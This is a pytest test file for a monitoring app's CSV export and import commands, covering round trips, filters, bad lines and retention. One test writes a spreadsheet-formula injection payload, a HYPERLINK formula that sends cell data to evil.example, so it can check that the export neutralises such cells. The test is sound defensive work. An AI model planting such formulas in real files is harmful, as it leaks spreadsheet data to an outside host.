"""manage.py export_series and import_series: an exact round trip, filters, bad files."""

import csv
import datetime as dt
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import override_settings
from django.utils import timezone

from demo import data as demo
from ingestion import writer
from ingestion.models import Series, Source
from ingestion.samples import Sample
from tsmon.testing import ALL_POINTS, POINT_TABLES, forget_write_caches

from .write_helpers import fresh_caches  # noqa: F401

pytestmark = pytest.mark.django_db(transaction=True)

HEADER = "metric,labels,source,ts,value\n"
DEMO_METRICS = ("cpu_usage_percent", "disk_used_percent", "http_request_duration_seconds")


def run(command, *args):
    out, err = StringIO(), StringIO()
    call_command(command, *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def store_demo_points(end: dt.datetime, n_points: int = 600) -> None:
    """The last `n_points` minutes of a few demo series (full-precision
    random floats), plus a series without a host that belongs to a key's
    source and one of awkward values."""
    data = demo.build_demo(end)
    for series in data.series:
        if series.metric in DEMO_METRICS:
            writer.write_samples(demo.iter_samples(data, series)[-n_points:])
    t0 = int(end.timestamp()) * 1_000_000 - 3_600_000_000
    awkward = [0.1 + 0.2, -0.0, 5e-324, 1.7976931348623157e308, -1e-300, 123456789.12345679]
    labels = (("job", "batch"), ("note", 'a "quoted", comma\nand newline'), ("zone", "Zürich"))
    writer.write_samples(
        [Sample("batch_progress_ratio", labels, t0 + 1_000_003 * i, v, i) for i, v in enumerate(awkward)],
        source=Source.objects.create(name="batch-runner"),
    )


def stored() -> list[tuple]:
    """Every point as (key, labels, source, ts, the value's 8 bytes), sorted."""
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT s.key, s.labels::text, src.name, p.ts, float8send(p.value) FROM {ALL_POINTS} p"
            " JOIN ingestion_series s ON s.id = p.series_id"
            " LEFT JOIN ingestion_source src ON src.id = s.source_id ORDER BY 1, 4"
        )
        return [(*row[:4], bytes(row[4])) for row in cursor.fetchall()]


def empty_the_database() -> None:
    with connection.cursor() as cursor:
        cursor.execute(f"TRUNCATE {POINT_TABLES}")
    Series.objects.all().delete()
    Source.objects.all().delete()
    # What this process remembers of the series and partitions is gone too.
    forget_write_caches()


def test_an_export_imported_into_an_empty_database_recreates_every_point_exactly(tmp_path):
    store_demo_points(timezone.now().replace(second=0, microsecond=0))
    before, n_series = stored(), Series.objects.count()
    path = tmp_path / "points.csv"

    _, err = run("export_series", "--output", str(path))
    empty_the_database()
    out, _ = run("import_series", str(path))

    assert err.strip() == f"{len(before)} points of {n_series} series exported"
    assert out.strip() == (
        f"{len(before)} points written, 0 already stored, {n_series} new series, "
        "0 older than retention skipped, 0 bad lines"
    )
    assert stored() == before


def test_importing_twice_stores_nothing_twice(tmp_path):
    store_demo_points(timezone.now().replace(second=0, microsecond=0), n_points=10)
    path = tmp_path / "points.csv"
    run("export_series", "-o", str(path))
    before = stored()

    out, _ = run("import_series", str(path))

    assert out.startswith(f"0 points written, {len(before)} already stored, 0 new series")
    assert stored() == before


def test_a_source_a_spreadsheet_would_run_is_exported_as_text_and_imported_back_exactly(tmp_path):
    names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "'=already quoted", "'plain", "-rm", "web-1"]
    ts_us = int(timezone.now().timestamp()) * 1_000_000
    for i, name in enumerate(names):
        sample = Sample("batch_progress_ratio", (("job", f"j{i}"),), ts_us, -1.5, 0)
        writer.write_samples([sample], source=Source.objects.create(name=name))
    before = stored()
    path = tmp_path / "points.csv"

    run("export_series", "-o", str(path))
    with path.open(newline="") as lines:
        cells = {row["source"] for row in csv.DictReader(lines)}
    empty_the_database()
    run("import_series", str(path))

    assert cells == {
        "'" + names[0],
        "''=already quoted",
        "'plain",
        "'-rm",
        "web-1",
    }
    assert stored() == before


def test_the_selector_and_time_range_choose_what_is_exported(tmp_path):
    end = timezone.now().replace(second=0, microsecond=0)
    store_demo_points(end, n_points=120)
    path = tmp_path / "points.csv"
    start, stop = (end - dt.timedelta(minutes=m) for m in (30, 10))

    run(
        "export_series",
        "--selector",
        '{__name__="cpu_usage_percent",host=~"web-.*"}',
        "--start",
        start.isoformat(),
        "--end",
        stop.isoformat(),
        "-o",
        str(path),
    )

    rows = [row.split(",") for row in path.read_text().splitlines()[1:]]
    assert {row[0] for row in rows} == {"cpu_usage_percent"}
    assert {row[2] for row in rows} == {"web-1", "web-2", "web-3", "web-4"}
    times = sorted({row[3] for row in rows})
    assert len(rows) == 4 * 20
    assert (times[0], times[-1]) == (_iso(start), _iso(stop - dt.timedelta(minutes=1)))


def test_times_relative_to_now_are_accepted_as_in_the_api(tmp_path):
    store_demo_points(timezone.now().replace(second=0, microsecond=0), n_points=120)
    path = tmp_path / "points.csv"

    _, err = run(
        "export_series", "--selector", "disk_used_percent", "--start=-3h", "--end", "now", "-o", str(path)
    )
    _, err_api_form = run(
        "export_series", "--selector", "disk_used_percent", "--start", "now-3h", "-o", str(path)
    )

    assert err.strip() == err_api_form.strip() == f"{120 * 6} points of 6 series exported"


def _iso(moment: dt.datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def test_a_file_with_bad_lines_is_refused_whole_with_the_line_numbers(tmp_path):
    ts = _iso(timezone.now() - dt.timedelta(minutes=5))
    path = tmp_path / "bad.csv"
    path.write_text(
        HEADER
        + f"cpu,{{}},,{ts},1\n"
        + f"cpu,{{}},,{ts},NaN\n"
        + "cpu,{},,not-a-time,2\n"
        + f"9cpu,{{}},,{ts},3\n"
        + f'cpu,"{{""host"":""a""}}",a,{ts},4\n'
    )

    with pytest.raises(CommandError, match="nothing written: 0 points written.* 3 bad lines"):
        run("import_series", str(path))

    assert stored() == []
    assert not Series.objects.exists()


def test_bad_lines_are_reported_on_stderr(tmp_path):
    ts = _iso(timezone.now() - dt.timedelta(minutes=5))
    path = tmp_path / "bad.csv"
    path.write_text(HEADER + f"cpu,{{}},,{ts},1\ncpu,{{}},,{ts},NaN\ncpu,{{}},,not-a-time,2\n")
    err = StringIO()

    with pytest.raises(CommandError):
        call_command("import_series", str(path), stdout=StringIO(), stderr=err)

    assert err.getvalue().splitlines() == [
        "line 3: value nan is not a finite number (NaN and infinity are refused)",
        "line 4: bad timestamp 'not-a-time' (expected ISO 8601)",
    ]


@override_settings(TSMON_RETENTION_DAYS=1)
def test_points_older_than_retention_are_skipped_and_counted(tmp_path):
    now = timezone.now().replace(microsecond=0)
    path = tmp_path / "old.csv"
    path.write_text(
        HEADER
        + f"m,{{}},,{(now - dt.timedelta(days=3)).isoformat()},1\n"
        + f"m,{{}},,{(now - dt.timedelta(hours=1)).isoformat()},2\n"
    )

    out, _ = run("import_series", str(path))

    assert (
        out.strip()
        == "1 points written, 0 already stored, 1 new series, 1 older than retention skipped, 0 bad lines"
    )


@override_settings(TSMON_MAX_POINTS_PER_REQUEST=3)
def test_a_large_file_is_written_in_chunks(tmp_path):
    store_demo_points(timezone.now().replace(second=0, microsecond=0), n_points=5)
    before = stored()
    path = tmp_path / "points.csv"
    run("export_series", "-o", str(path))
    empty_the_database()

    run("import_series", str(path))

    assert stored() == before


def test_a_bad_selector_or_time_is_a_command_error():
    with pytest.raises(CommandError, match="--selector: "):
        run("export_series", "--selector", "cpu{host=}")
    with pytest.raises(CommandError, match="--start: 'yesterday' is not a time"):
        run("export_series", "--start", "yesterday")


def test_without_an_output_file_the_csv_goes_to_stdout_and_the_summary_to_stderr(capsysbinary):
    store_demo_points(timezone.now().replace(second=0, microsecond=0), n_points=3)
    err = StringIO()

    call_command("export_series", "--selector", 'disk_used_percent{host="db-1"}', stderr=err)

    lines = capsysbinary.readouterr().out.decode().splitlines()
    assert lines[0] == "metric,labels,source,ts,value"
    assert len(lines) == 1 + 2 * 3  # two mounts
    assert err.getvalue().strip() == "6 points of 2 series exported"
